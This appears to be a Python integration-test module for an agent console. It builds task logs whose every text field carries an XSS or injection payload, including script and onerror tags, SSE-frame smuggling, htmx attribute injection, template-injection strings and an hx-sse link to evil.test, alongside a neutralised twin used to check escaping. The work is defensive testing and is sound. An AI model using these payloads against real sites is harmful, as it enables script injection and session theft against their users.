"""A task in whose log every text is hostile, and the same one with harmless words in their place."""

from __future__ import annotations

import types
from collections.abc import Callable, Iterator, Sequence
from typing import Annotated, Any, Literal, Union, get_args, get_origin

from pydantic import BaseModel

from agentic.core.events.execution_events import (
    Asked,
    CallBlock,
    Confidence,
    Decided,
    Evaluated,
    Event,
    FeedbackGiven,
    FileChange,
    Finished,
    InputReceived,
    Intervened,
    Judged,
    ModelAnswered,
    ModelRequested,
    Option,
    Person,
    ReasoningBlock,
    Reflected,
    Started,
    TextBlock,
    ToolFinished,
    ToolStarted,
    TrialDecided,
    TurnEnded,
)
from agentic.core.events.ids import call_id
from tests.integration.console import logs

from .test_xss import FORMS as OF_A_CHAT

FORMS = (
    *OF_A_CHAT,
    "x\r\rdata: <script>hit({})</script>\r\rdata: x",
    "x\nevent: message\ndata: <img src=x onerror=hit({})>\n\nid: 99999\n\n",
    "x\u2028data: <script>hit({})</script>\u2029",
    "</pre></code></details></article><script>hit({})</script>",
    "</title></textarea></select></svg><script>hit({})</script>",
    "<hx-partial hx-target=body hx-swap=innerHTML><img src=x onerror=hit({})></hx-partial>",
    "<div hx-get=/ hx-trigger=load hx-on:load=hit({}) hx-swap=outerHTML>x</div>",
    "<div hx-sse:connect=//evil.test/{} sse-connect=//evil.test/{}>x</div>",
    '" hx-on::load="hit({})" hx-trigger="load" data-x="',
    "{{{{ self.__init__.__globals__ }}}}{{% raw %}}<script>hit({})</script>",
    "javascript:hit({})",
    "#turn-1' onclick='hit({})",
)
"""``hit`` is called with the number of the place and form, where it runs."""
PLACES = (
    "task", "person", "guidance", "model", "model's words", "reasoning", "tool", "argument", "argument's name", "result",
    "path", "question", "option", "note", "answer", "every other",
)  # fmt: skip
OUTCOMES = (FeedbackGiven, Judged, Evaluated, Reflected, TrialDecided)
SPECIAL = (Started, Finished, *OUTCOMES)
MARKS = "<>&\"'`=\\{}:#%()[]|!*_~@$"
HARMLESS = str.maketrans(MARKS, "αβγδεζηθικλμνξοπρστυφχψωà"[: len(MARKS)])
"""Each mark becomes a letter of its own, so that names that differ still do."""


class Words:
    """Makes the texts of a log: hostile ones, or harmless ones of the same length."""

    def __init__(self, *, hostile: bool) -> None:
        self._hostile = hostile

    def __call__(self, number: int, place: str) -> str:
        """A form that says where it ran."""
        name = str(1_000 * PLACES.index(place) + number)
        text = FORMS[number].replace("{}", name).replace("{{", "{").replace("}}", "}")
        if self._hostile:
            return text
        return text.replace("\r\r", "\n\n").translate(HARMLESS)


def task_log(words: Words) -> tuple[list[Event], list[Event]]:
    """The log and what follows it: each form at each place, and every kind of event with a form in every field."""
    log: list[Event] = [logs.started(words(0, "task"), role=words(0, "every other"))]
    for number in range(len(FORMS)):
        log += _turn(number, words)
    number = 0

    def any_form() -> str:
        nonlocal number
        number = (number + 7) % len(FORMS)
        return words(number, "every other")

    kinds: tuple[type[BaseModel], ...] = get_args(get_args(Event)[0])
    log += [filled(kind, any_form) for kind in kinds if kind not in SPECIAL]
    log.append(Finished(reason="failed", answer=words(3, "answer"), files=(words(3, "path"),)))
    return log, [filled(kind, any_form) for kind in OUTCOMES]


def _turn(number: int, words: Words) -> Iterator[Event]:
    request, turn = f"r{number}", number + 1
    tool, path = words(number, "tool"), words(number, "path")
    arguments = {words(number, "argument's name"): words(number, "argument"), "path": path}
    person = Person(id="7", name=words(number, "person"), level="owner")
    blocks = (
        ReasoningBlock(text=words(number, "reasoning")),
        TextBlock(text=words(number, "model's words")),
        CallBlock(provider_id="p", tool=tool, arguments=dict(arguments)),
    )
    call = call_id(request, 0)
    option = Option(id="1", label=words(number, "option"), description=words(number, "option"))
    yield InputReceived(inbox=f"m{number}", sort="guidance", author=person, text=words(number, "guidance"))
    yield ModelRequested(request=request, turn=turn, tier=2, model=words(number, "model"))
    yield ModelAnswered(request=request, blocks=blocks, usd=0.001, stop="tool_use")
    yield ToolStarted(call=call, provider_id="p", tool=tool, effect="unkeyed", arguments=dict(arguments), args_sha="0")
    change = FileChange(path=path, kind="modified", sha_before="a" * 64, sha_after="b" * 64)
    yield ToolFinished(call=call, outcome="ok", preview=words(number, "result"), exit_code=1, changes=(change,))
    yield Asked(question=f"q{number}", text=words(number, "question"), options=(option,), who_may="owner")
    yield Decided(question=f"q{number}", by=person, choice="1", text=words(number, "answer"))
    yield Intervened(rule="repeated", text=words(number, "note"))
    yield TurnEnded(
        turn=turn,
        confidence=Confidence(shown=60, calibrator=words(number, "every other"), heuristic=60, parts=logs.PARTS),
    )


def filled(kind: type[BaseModel], text: Callable[[], str]) -> Any:
    """A value of this kind with a text in every field that may hold one."""
    values = {name: _value(field.annotation, text) for name, field in kind.model_fields.items()}
    return kind.model_validate(values)


def _value(annotation: Any, text: Callable[[], str]) -> Any:
    origin, inner = get_origin(annotation), get_args(annotation)
    if origin is Annotated:
        return _value(inner[0], text)
    if origin is Literal:
        return next((each for each in inner if each), inner[0])
    if origin in (Union, types.UnionType):
        return _value(next(each for each in inner if each is not type(None)), text)
    if origin is tuple:
        return [_value(each, text) for each in inner if each is not Ellipsis]
    if origin is dict:
        return {text(): _value(inner[1], text)}
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        return filled(annotation, text).model_dump()
    if annotation is str:
        return text()
    simple: Sequence[tuple[type, object]] = ((bool, True), (int, len(FORMS) + 1), (float, 0.5))
    found = next((value for each, value in simple if annotation is each), None)
    return logs.BEGAN if found is None and "datetime" in str(annotation) else text() if found is None else found
